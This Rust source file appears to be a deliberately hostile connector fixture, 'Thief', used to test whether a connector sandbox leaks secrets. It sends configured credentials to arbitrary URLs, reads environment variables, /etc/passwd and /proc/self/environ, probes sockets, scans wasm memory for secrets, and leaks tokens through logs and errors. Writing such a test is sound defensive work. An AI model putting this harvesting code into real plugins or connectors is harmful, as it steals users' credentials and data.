//! A reader that is after the secrets in its config: it sends them wherever its config says, and hands over all that it saw.
//!
//! Each row is one attempt and what came of it. A test looks for the secret's value in them, in what the process printed and
//! kept, and in what the servers got.

use std::collections::BTreeMap;
use std::sync::Arc;

use arrow_array::{ArrayRef, RecordBatch, StringArray};
use arrow_schema::{DataType, Field, Schema, SchemaRef};
use dativo_connector::{Batches, Error, Reader, Result, http, log};

#[derive(Clone, serde::Deserialize)]
struct Config {
    #[serde(default)]
    bearer: Option<String>,
    /// User and password, in its place.
    #[serde(default)]
    basic: Option<(String, String)>,
    #[serde(default)]
    requests: Vec<Request>,
    /// Texts to look for in the own memory, written backwards, so that this config is no place to find them.
    #[serde(default)]
    backwards: Vec<String>,
    /// A text that the memory does have.
    #[serde(default)]
    note: String,
    /// Ends with an error that says what it knows, and does not hand over rows.
    #[serde(default)]
    complain: bool,
}

#[derive(Clone, serde::Deserialize)]
struct Request {
    #[serde(default = "get")]
    method: String,
    url: String,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    #[serde(default)]
    body: Option<String>,
}

fn get() -> String {
    "GET".to_owned()
}

struct Thief {
    config: Config,
}

impl Reader for Thief {
    const NAME: &'static str = "thief";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    type Config = Config;

    fn config_schema() -> String {
        r#"{"type": "object", "properties": {"requests": {"type": "array"}, "backwards": {"type": "array"}}}"#.to_owned()
    }

    fn open(config: Config, _: Option<String>) -> Result<Self> {
        Ok(Self { config })
    }

    fn schema(&self) -> Result<SchemaRef> {
        Ok(schema())
    }

    fn read(&self, _: &str) -> Result<Box<dyn Batches>> {
        let mut seen = Vec::new();
        for request in &self.config.requests {
            seen.push(try_out(&self.config, request));
        }
        seen.push(surroundings());
        for backwards in &self.config.backwards {
            let text: Vec<u8> = backwards.bytes().rev().collect();
            let count = count_in_memory(&text);
            let bytes = self.config.note.len();
            seen.push(format!(
                "memory has it {count} times, beside a note of {bytes} bytes"
            ));
        }
        for line in &seen {
            log::write(log::Level::Warn, line);
            println!("{line}");
        }
        if self.config.complain {
            let config = self.config.bearer.clone().unwrap_or_default();
            return Err(
                Error::rejected(format!("{config} {}", seen.join(" "))).hint(seen.join(" "))
            );
        }
        Ok(Box::new(Loot(Some(seen))))
    }
}

fn try_out(config: &Config, request: &Request) -> String {
    let bearer = config.bearer.clone().map(http::Auth::Bearer);
    let settings = http::Settings {
        auth: config.basic.clone().map(http::Auth::Basic).or(bearer),
        rate: None,
    };
    let headers = request
        .headers
        .iter()
        .map(|(name, value)| (name.clone(), value.clone()));
    let wanted = http::Request {
        method: request.method.clone(),
        url: request.url.clone(),
        headers: headers.collect(),
        body: request.body.clone().map(String::into_bytes),
        timeout_ms: Some(5_000),
        repeatable: false,
    };
    let sent = http::Client::open(&settings).and_then(|client| client.send(&wanted));
    match sent {
        Ok(response) => {
            let body = response.body.read(0, 1 << 20);
            let body = String::from_utf8_lossy(&body);
            format!(
                "got {} {} {:?} {body}",
                response.status, response.url, response.headers
            )
        }
        Err(error) => format!("failed {:?} {} {:?}", error.kind, error.message, error.hint),
    }
}

/// What a sandbox must not have.
fn surroundings() -> String {
    let variables: Vec<_> = std::env::vars_os().collect();
    let arguments: Vec<_> = std::env::args_os().collect();
    let files =
        ["/etc/passwd", "/proc/self/environ", ".", "/"].map(|path| std::fs::read(path).is_ok());
    let folders = ["/", "."].map(|path| std::fs::read_dir(path).is_ok());
    let socket = std::net::TcpStream::connect("127.0.0.1:80").is_ok();
    format!(
        "variables {variables:?} arguments {arguments:?} files {files:?} folders {folders:?} socket {socket}"
    )
}

/// How often a text stands in this instance's memory, this function's own copy left aside.
#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code)]
fn count_in_memory(text: &[u8]) -> usize {
    const PAGE: usize = 64 << 10;
    let end = core::arch::wasm32::memory_size(0) * PAGE;
    // From 8 on, so that no address is null.
    let byte = |at: usize| unsafe { core::ptr::read_volatile(at as *const u8) };
    let own = text.as_ptr() as usize;
    let starts = (8..end.saturating_sub(text.len())).filter(|at| *at != own);
    starts
        .filter(|at| {
            text.iter()
                .enumerate()
                .all(|(offset, wanted)| byte(at + offset) == *wanted)
        })
        .count()
}

#[cfg(not(target_arch = "wasm32"))]
fn count_in_memory(_: &[u8]) -> usize {
    0
}

fn schema() -> SchemaRef {
    Arc::new(Schema::new(vec![Field::new("seen", DataType::Utf8, false)]))
}

struct Loot(Option<Vec<String>>);

impl Batches for Loot {
    fn next(&mut self, _: usize) -> Result<Option<RecordBatch>> {
        let Some(seen) = self.0.take() else {
            return Ok(None);
        };
        let column: ArrayRef = Arc::new(StringArray::from_iter_values(seen));
        let batch = RecordBatch::try_new(schema(), vec![column]);
        batch
            .map(Some)
            .map_err(|error| Error::internal(error.to_string()))
    }
}

dativo_connector::export_reader!(Thief);
